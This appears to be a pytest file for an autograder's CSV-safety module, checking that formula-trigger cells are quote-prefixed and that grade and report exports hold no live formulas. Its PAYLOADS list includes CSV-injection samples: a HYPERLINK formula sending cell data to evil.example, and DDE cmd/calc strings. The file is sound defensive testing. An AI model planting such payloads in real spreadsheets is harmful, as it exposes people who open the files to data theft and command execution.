"""CSV safety: no cell the project writes is a spreadsheet formula; numbers stay numbers.

OWASP's rule (CSV Injection): a cell starting with ``=``, ``+``, ``-``, ``@``, tab or
carriage return is run as a formula by spreadsheets; prefix it with ``'``.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from autograder import csvsafe
from autograder.course import Course
from autograder.grading.results import CellResult, SubmissionResult, write_csvs
from autograder.stages import report

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "'=already quoted",
)


def _raw_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f) for c in row]


def _live(text: str) -> bool:
    """Would a spreadsheet run this cell? (text starting with a trigger, not a number)"""
    try:
        float(text)
        return False
    except ValueError:
        return text.lstrip(" ").startswith(csvsafe.TRIGGERS)


def test_each_payload_is_neutralised_and_restored() -> None:
    for payload in PAYLOADS:
        written = csvsafe.cell(payload)
        assert written.startswith("'"), payload
        assert not _live(written)
        assert csvsafe.restore(written) == payload


def test_numbers_stay_numbers() -> None:
    assert csvsafe.cell(-2.0) == "-2"
    assert csvsafe.cell(21.0) == "21"
    assert csvsafe.cell(0.5) == "0.5"
    assert csvsafe.cell(-3) == "-3"
    assert csvsafe.cell(None) == ""
    assert csvsafe.cell("alice") == "alice"
    assert csvsafe.cell("-2") == "'-2"  # text that looks like a number stays text


@given(st.text(max_size=40))
def test_any_text_round_trips_and_never_runs(text: str) -> None:
    written = csvsafe.cell(text)
    assert csvsafe.restore(written) == text
    assert not (written.lstrip(" ").startswith(csvsafe.TRIGGERS))


def test_grades_and_totals_carry_no_formula(tmp_path: Path) -> None:
    hostile = SubmissionResult(
        "=cmd",
        "03_linear_layer",
        "03_linear_layer",
        "graded",
        cells=[
            CellResult("a", -2.0, 5.0, "graded", "@SUM(A1)"),
            CellResult("b", 3.0, 5.0, "graded", "-2+3"),
        ],
    )
    grades, totals = write_csvs([hostile], tmp_path)
    cells = _raw_cells(grades) + _raw_cells(totals)
    assert not [c for c in cells if _live(c)], cells
    rows = list(csv.DictReader(grades.open(newline="")))
    assert rows[0]["score"] == "-2" and float(rows[0]["score"]) == -2  # a number
    assert rows[0]["student_id"] == "'=cmd" and rows[1]["message"] == "'-2+3"
    assert csvsafe.read(grades)[0]["student_id"] == "=cmd"


def test_attention_and_pass_rates_carry_no_formula(tmp_path: Path) -> None:
    course = Course.at(tmp_path / "course")
    SubmissionResult(
        "bob", "03_linear_layer", "03_linear_layer", "needs_attention", "+cmd", []
    ).save(course.result_file("bob", "03_linear_layer"))
    log = course.path("attention", "attention.json")
    log.parent.mkdir(parents=True)
    log.write_text(
        json.dumps(
            [
                {"origin": p + "/03_linear_layer/x.ipynb", "reason": "-1", "student_id": p}
                for p in PAYLOADS
            ]
        )
    )
    report.build(course)
    for name in ("attention.csv", "pass_rates.csv"):
        cells = _raw_cells(course.path("reports", name))
        assert not [c for c in cells if _live(c)], (name, cells)
    rows = csvsafe.read(course.path("reports", "attention.csv"))
    assert {r["student_id"] for r in rows} >= set(PAYLOADS)
